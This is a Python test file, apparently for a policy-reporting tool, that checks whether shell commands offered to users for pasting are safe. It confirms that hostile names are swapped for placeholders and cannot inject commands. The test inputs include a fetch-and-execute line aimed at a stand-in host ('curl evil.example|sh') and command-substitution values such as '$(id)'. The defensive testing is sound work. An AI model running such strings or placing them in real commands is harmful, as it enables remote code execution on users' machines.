"""What people are told to paste into a shell holds only words that a shell takes for nothing else."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policykit.report.command import word
from policykit.report.layout import layout
from tests.render.render_reports import blocked


@given(st.text(max_size=40))
def test_a_word_is_one_word_of_a_shell_and_no_option(text: str) -> None:
    found = word(text, "FILE")
    assert shlex.split(found) == [found] and not found.startswith("-")
    assert found in (text, "FILE")


@pytest.mark.parametrize("name", ["X;curl evil.example|sh", "$(id)", "a b", "-p", "", "`id`", "a\nb"])
def test_what_a_shell_would_run_is_left_to_be_filled_in(name: str) -> None:
    assert word(name, "RULE") == "RULE"


def test_a_hostile_rule_is_not_in_the_command_that_asks_for_its_waiver() -> None:
    from dataclasses import replace

    report = blocked()
    hostile = tuple(
        replace(line, policy="p;id@1", verdict=replace(line.verdict, policy="p;id@1")) for line in report.rules
    )
    commands = [row.command for row in layout(replace(report, rules=hostile)).overrule if row.command]
    assert commands and all("--rule POLICY/RULE " in command for command in commands)
